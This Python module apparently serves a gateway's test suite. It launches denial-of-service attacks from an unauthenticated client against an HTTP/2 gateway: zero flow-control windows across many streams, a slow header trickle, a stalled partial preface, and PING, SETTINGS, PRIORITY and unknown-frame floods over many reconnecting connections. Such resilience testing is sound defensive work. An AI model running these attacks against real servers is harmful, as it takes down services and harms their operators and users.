"""What a client without a token can do to the gateway. Each attack runs until cancelled, and closes what it opened."""

import asyncio
import contextlib
import os
import resource
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_STREAMS = 95
_TRICKLE_S = 0.5
_AGAIN_S = 0.05
_WINDOW = 4
_TELLS_EVERY_S = 0.5
_OTHER_FILES = 64


@dataclass
class Attacked:
    """`open_now` are the connections that the gateway has not ended yet."""

    address: str
    open_now: set[object] = field(default_factory=set)
    made: int = 0

    @asynccontextmanager
    async def connection(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        reader, writer = await asyncio.open_connection(*self.address.rsplit(":", 1))
        self.open_now.add(writer)
        self.made += 1
        try:
            yield reader, writer
        finally:
            self.open_now.discard(writer)
            writer.transport.abort()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


async def shut_windows(attacked: Attacked) -> None:
    """Asks as often as one connection may, and takes no answer."""
    encoder = hpack.Encoder()
    settings = _WINDOW.to_bytes(2) + (0).to_bytes(4)
    heads = b"".join(
        frame(
            1,
            5,
            2 * number + 1,
            encoder.encode(
                [(":method", "GET"), (":path", "/v2/state"), (":scheme", "http"), (":authority", attacked.address)]
            ),
        )
        for number in range(_STREAMS)
    )
    async with attacked.connection() as (reader, writer):
        writer.write(PREFACE + frame(4, 0, 0, settings) + heads)
        await _until_ended(reader)


async def say_nothing(attacked: Attacked) -> None:
    async with attacked.connection() as (reader, writer):
        writer.write(PREFACE[:20])
        await _until_ended(reader)


async def trickle_a_head(attacked: Attacked) -> None:
    async with attacked.connection() as (reader, writer):
        writer.write(b"GET /v2/state HTTP/1.1\r\nHost: localhost\r\nX: ")
        ended = asyncio.ensure_future(_until_ended(reader))
        try:
            while not ended.done():
                writer.write(b"x")
                await asyncio.wait({ended}, timeout=_TRICKLE_S)
        finally:
            ended.cancel()
            await asyncio.wait({ended})


def flood(*frames: bytes) -> Callable[[Attacked], Awaitable[None]]:
    """These frames, as fast as the gateway takes them."""

    async def run(attacked: Attacked) -> None:
        async with attacked.connection() as (reader, writer):
            writer.write(PREFACE + frame(4, 0, 0))
            ended = asyncio.ensure_future(_until_ended(reader))
            try:
                while not ended.done():
                    writer.write(b"".join(frames) * 200)
                    with contextlib.suppress(ConnectionError):
                        await writer.drain()
                    await asyncio.sleep(0)
            finally:
                ended.cancel()
                await asyncio.wait({ended})

    return run


FLOODS = {
    "ping": flood(frame(6, 0, 0, bytes(8))),
    "settings": flood(frame(4, 0, 0)),
    "priority": flood(frame(2, 0, 1, bytes(5))),
    "unknown": flood(frame(99, 0, 0)),
}


async def _until_ended(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(65536):
            pass


ATTACKS = {"windows": shut_windows, "silence": say_nothing, "heads": trickle_a_head, **FLOODS}


@dataclass
class Attack:
    """One in a process of its own, so that it takes no time of the one that measures."""

    process: asyncio.subprocess.Process
    made: int = 0
    still_open: int = 0

    async def follow(self) -> None:
        assert self.process.stdout is not None
        async for line in self.process.stdout:
            self.made, self.still_open = map(int, line.split())


@asynccontextmanager
async def under_attack(address: str, name: str, connections: int, *, again: bool = False) -> AsyncIterator[Attack]:
    """With `again`, each connection that the gateway ends is made anew."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, __file__, address, name, str(connections), str(int(again)), stdout=asyncio.subprocess.PIPE
    )
    attack = Attack(process)
    following = asyncio.create_task(attack.follow())
    try:
        yield attack
        assert process.returncode is None, "the attack ended"
    finally:
        if process.returncode is None:
            process.kill()
        await following
        await process.wait()


async def _run(address: str, name: str, connections: int, again: bool) -> None:
    # Attackers come over a network, and take no time of the machine that they attack.
    os.nice(19)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + _OTHER_FILES)), hard))
    attacked = Attacked(address)

    async def run() -> None:
        while True:
            with contextlib.suppress(ConnectionError):
                await ATTACKS[name](attacked)
            if not again:
                return
            await asyncio.sleep(_AGAIN_S)

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(run())
        while os.getppid() != 1:
            print(attacked.made, len(attacked.open_now), flush=True)  # noqa: T201  # for the test
            await asyncio.sleep(_TELLS_EVERY_S)


if __name__ == "__main__":
    asyncio.run(_run(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4] == "1"))
